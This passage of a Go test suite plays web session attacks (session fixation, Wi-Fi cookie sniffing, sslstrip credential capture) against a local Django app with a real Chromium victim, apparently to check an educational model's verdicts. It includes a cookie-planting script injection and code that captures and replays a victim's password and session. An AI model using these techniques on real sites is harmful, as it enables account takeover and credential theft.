				ok = cfg.Set(pin[i], pin[i+1]) == nil
			}
			if !ok {
				t.Fatalf("%s: bad pinned case %v", rs.id, pin)
			}
			c := realCase{sc: sc, play: rs, preset: pin[0], set: pin[1:], cfg: cfg}
			pinned[c.String()] = true
			try(c)
		}
		r.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
		taken := 0
		for _, c := range pool {
			if taken == n {
				break
			}
			if pinned[c.String()] {
				continue // played already
			}
			if try(c) {
				taken++
			}
		}
		// Mixed variations: two to four of one preset's single changes at once.
		for taken, tries := 0, 0; taken < mix && tries < 50*mix && len(pool) > 0; tries++ {
			c := pool[r.IntN(len(pool))]
			c.set = append([]string(nil), c.set...)
			for range 1 + r.IntN(3) {
				d := pool[r.IntN(len(pool))]
				if d.preset != c.preset || slices.Contains(c.set, d.set[0]) || c.cfg.Set(d.set[0], d.set[1]) != nil {
					continue
				}
				c.set = append(c.set, d.set...)
			}
			if len(c.set) > 2 && try(c) {
				taken++
			}
		}
	}
	return cases, skipped
}

// TestScenariosRealStack plays the attack scenarios end to end on a real
// Django (5.2, testdata/django/live.py, on the virtual clock) with a
// real Chromium as the victim, and checks each outcome against the model's
// verdict, s.Run(cfg, false).Verdict.Outcome. See the file's header for
// what is played and what is left out.
func TestScenariosRealStack(t *testing.T) {
	if _, err := os.Stat(chromiumPath); err != nil {
		t.Skip("no Chromium at " + chromiumPath)
	}
	if testing.Short() {
		t.Skip("drives a real browser and a real Django")
	}
	needDjango(t)
	cases, skipped := realCases(t, *realSeed, *realN, *realMix, *realAll, *realOnly)
	for _, s := range skipped {
		t.Logf("not played: %s", s)
	}
	s := newRealStack(t)
	start := time.Now()
	tally := map[string]*[2]int{} // scenario -> agreed on [succeeded, blocked]
	var logins, broken int        // cases whose first login was compared, and those the model marks broken
	for _, c := range cases {
		t.Run(strings.ReplaceAll(c.String(), " ", "_"), func(t *testing.T) {
			want := c.sc.Run(c.cfg, false).Verdict
			timeout := 30 * time.Second
			if *realWait {
				timeout += 2 * time.Minute // outwaitLaxAllowingUnsafe
			}
			r, done := s.newRun(t, c.cfg, c.play.ownBrowser, timeout)
			defer done()
			got := c.play.play(r)
			// A story that starts with the victim's login marks the site
			// broken exactly when that login fails (loginRefused): the real
			// login must fail then, and only then.
			if (c.sc.logsIn || c.sc.ID == "basics") && len(r.logins) > 0 {
				logins++
				if want.Broken {
					broken++
				}
				if want.Broken == r.logins[0] {
					t.Errorf("%s: the model marks the site broken: %v (%s); the victim's first real login worked: %v\n%s\nreal trace:\n\t%s",
						c, want.Broken, want.Reason, r.logins[0], c.pin(), strings.Join(r.trace, "\n\t"))
				}
			}
			if got == want.Outcome {
				if tally[c.sc.ID] == nil {
					tally[c.sc.ID] = new([2]int)
				}
				tally[c.sc.ID][map[Outcome]int{Succeeded: 0, Blocked: 1}[got]]++
				return
			}
			run := c.sc.Run(c.cfg, true)
			var b strings.Builder
			for _, st := range run.Steps {
				fmt.Fprintf(&b, "\n\t%d. %s %s: %s", st.N, clock(st.At), st.Actor, st.Action)
				if st.Request != nil {
					fmt.Fprintf(&b, "\n\t\t%s %s", st.Request.Method, st.Request.URL)
					for _, h := range st.Request.Headers {
						fmt.Fprintf(&b, "\n\t\t%s: %s", h.Name, h.Value)
					}
				}
				if st.Response != nil {
					for _, h := range st.Response.Headers {
						if h.Name == "Set-Cookie" {
							fmt.Fprintf(&b, "\n\t\t<- Set-Cookie: %s", h.Value)
						}
					}
				}
				if st.Check != nil {
					fmt.Fprintf(&b, "\n\t\tcheck: %s (%s)", st.Check.Rule, st.Check.Source)
				}
				fmt.Fprintf(&b, "\n\t\t=> %s", st.Result)
			}
			t.Errorf("%s: the model says %s, the real stack %s\n%s\nmodel: %s (%s)\nmodel trace:%s\nreal trace:\n\t%s",
				c, want.Outcome, got, c.pin(), want.Reason, want.Rule, b.String(), strings.Join(r.trace, "\n\t"))
		})
	}
	for _, rs := range realScenarios {
		if n := tally[rs.id]; n != nil {
			t.Logf("%s: agreed on %d succeeded, %d blocked", rs.id, n[0], n[1])
		}
	}
	t.Logf("the first login compared in %d cases, %d of them on a site the model marks broken", logins, broken)
	t.Logf("%d cases in %v", len(cases), time.Since(start).Round(time.Millisecond))
}

func playSessionFixation(r *realRun) Outcome {
	name := r.cfg.SessionCookieName
	resp := r.attacker("GET", "/cart/add/?item=1", "", nil)
	key := (&World{cfg: r.cfg}).sessionValue(resp.SetCookies)
	if key == "" {
		return Blocked
	}
	r.logf("the attacker's key: %s", short(key))
	planted := false
	if r.cfg.AttackerSubdomain {
		line := name + "=" + key + "; Domain=" + ParentDomain[1:] + "; Path=/"
		if hasPrefixFold(name, "__Secure-") || hasPrefixFold(name, "__Host-") {
			line += "; Secure"
		}
		r.s.atk.reset(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Add("Set-Cookie", line)
			w.Write([]byte("<!doctype html><title>post</title><body></body>"))
		})
		r.logf("%s sets %s", SiblingHost, line)
		r.open(siblingPost(r.siteScheme(), r.cfg))
		r.s.atk.reset(nil)
		planted = r.sessionCookie() == key
	}
	if !planted {
		line := name + "=" + key + "; Path=/"
		if r.cfg.HTTPS {
			line += "; Secure"
		}
		r.inject(map[string]any{"script": `<script>document.cookie = ` + strconv.Quote(line) + `</script>`})
		r.follow(r.siteURL("/"))
		r.inject(map[string]any{})
		planted = r.sessionCookie() == key
		r.logf("after the injected script, planted = %v", planted)
	}
	if !planted {
		r.logf("on the attacker's Wi-Fi: HTTPS blocked, Set-Cookie injected into plain HTTP")
		r.inject(map[string]any{"block_tls": true, "http_set_cookie": name + "=" + key + "; Path=/"})
		r.open("http://" + SiteHost + "/")
		r.inject(map[string]any{})
		planted = r.sessionCookie() == key
		if !planted && !servedPlain(r.serverLog()) {
			// HSTS kept that request off plain HTTP: the attacker answers
			// http://example.com, which HSTS does not cover, as the model's does.
			apex := ParentDomain[1:]
			r.s.atk.reset(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Add("Set-Cookie", name+"="+key+"; Domain="+apex+"; Path=/")
				w.Write([]byte("<!doctype html><title>apex</title><body></body>"))
			})
			r.open("http://" + apex + "/")
			r.s.atk.reset(nil)
			planted = r.sessionCookie() == key
		}
	}
	r.serverLog()
	if !planted {
		r.logf("nothing planted")
		return Blocked
	}
	r.advance(600)
	if !r.logIn() {
		return Blocked
	}
	r.advance(60)
	return succeededIf(r.replay(key) == victimName)
}

func playWifiSniffing(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	r.advance(600)
	r.logf("a passive listener records the Wi-Fi")
	r.open("http://" + SiteHost + "/account/")
	// The old link's own plain request carries the victim's cookie; a
	// redirect after it may carry a new, anonymous one. As the model's
	// listener, replay the link's cookie, or else the last one seen.
	stolen := ""
	for i, e := range r.serverLog() {
		if v := cookieValue(e.Cookie, r.cfg.SessionCookieName); e.Scheme == "http" && v != "" {
			stolen = v
			if i == 0 {
				break
			}
		}
	}
	if stolen == "" {
		return Blocked
	}
	return succeededIf(r.replay(stolen) == victimName)
}

func playSSLStrip(r *realRun) Outcome {
	if r.cfg.VisitedHTTPSBefore {
		r.open("https://" + SiteHost + "/")
		r.serverLog()
		r.advance(24 * 3600)
	}
	r.logf("the on-path attacker blocks HTTPS and relays plain HTTP (sslstrip)")
	r.inject(map[string]any{"block_tls": true, "strip": true})
	r.open("http://" + SiteHost + "/login/")
	log := r.serverLog()
	if len(log) == 0 || log[0].Scheme != "http" {
		r.inject(map[string]any{})
		return Blocked
	}
	r.submit("login", map[string]string{"username": victimName, "password": passwordOf(victimName)})
	r.inject(map[string]any{})
	password := ""
	for _, e := range r.serverLog() {
		if e.Scheme == "http" && e.Form["password"] != "" {
			password = e.Form["password"]
		}
	}
	if password == "" {
		return Blocked
	}
	r.logf("the attacker read the password %q", password)
	jar := map[string]string{}
	form := r.attacker("GET", "/login/", "", nil)
	absorb(jar, form.SetCookies)
	resp := r.attacker("POST", "/login/", cookieHeader(jar), url.Values{"username": {victimName}, "password": {password}, "csrfmiddlewaretoken": {form.Token}})
	absorb(jar, resp.SetCookies)
	return succeededIf(r.attacker("GET", "/account/", cookieHeader(jar), nil).User == victimName)
}

// playBasics is the learning card's tour: is the session still usable
// after five idle minutes?
func playBasics(r *realRun) Outcome {
	if !r.logIn() {
		return Blocked
	}
	r.advance(60)
	r.follow(r.siteURL("/account/"))
	r.advance(5*60 + 1)
	r.follow(r.siteURL("/account/"))
	return succeededIf(r.lastServedAs(victimName))
}
